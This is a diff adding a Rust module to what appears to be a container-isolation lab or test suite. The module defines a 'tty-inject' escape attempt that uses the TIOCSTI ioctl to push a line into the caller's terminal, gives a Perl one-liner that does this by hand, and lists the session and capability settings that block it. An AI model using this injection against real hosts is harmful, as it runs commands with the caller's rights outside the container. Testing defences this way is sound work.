@@ -1,0 +1,48 @@
+//! tty-inject: type a command into the caller's terminal.
+
+use super::{Attempt, Letters, Need};
+use crate::inside::terminal;
+use crate::{Host, Inside, Seen};
+use nix::errno::Errno;
+use nix::libc;
+
+/// The attempt.
+pub const ATTEMPT: Attempt = Attempt {
+    id: "tty-inject",
+    stake: "The caller's shell: what seems to be typed at its prompt is run with all its rights.",
+    story: "The attacker pushes characters into the input of the terminal that it was started from. When the \
+            container ends, the caller's shell reads them as if they had been typed, and runs them on the host. \
+            TIOCSTI asks for one of two things: that the terminal is the attacker's own controlling terminal, or \
+            CAP_SYS_ADMIN. So it takes two defences: a session of the container's own, and no such capability; \
+            in a user namespace the first is enough. Where dev.tty.legacy_tiocsti is 0 only the capability counts.",
+    by_hand: &[
+        "perl -e 'ioctl(STDERR, 0x5412, $_) for split //, \"id\\n\"'",
+        "sysctl dev.tty.legacy_tiocsti    # on the host",
+    ],
+    stopped_by: &[
+        "lab3-pivot/session",
+        "lab4-capabilities/bounding-set",
+        "lab4-capabilities/capability-sets",
+    ],
+    man: &["ioctl_tty(2)", "setsid(2)", "capabilities(7)"],
+    letters: Letters { root: "E EEEEBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
+    needs: &[Need::Terminal],
+    decisive: &[libc::SYS_ioctl],
+    inside,
+    witness,
+};
+
+fn inside(me: &mut Inside) -> Result<(), Errno> {
+    let terminal = terminal::inherited();
+    me.decisive(&format!("ioctl({terminal}, TIOCSTI, ...)"));
+    terminal::type_line(terminal, libc::TIOCSTI, me.mark())
+}
+
+fn witness(host: &Host) -> Seen {
+    if host.typed_mark() {
+        return Seen::Effect(
+            "a line of the attacker's came in over the caller's terminal as typed input".into(),
+        );
+    }
+    Seen::Nothing
+}
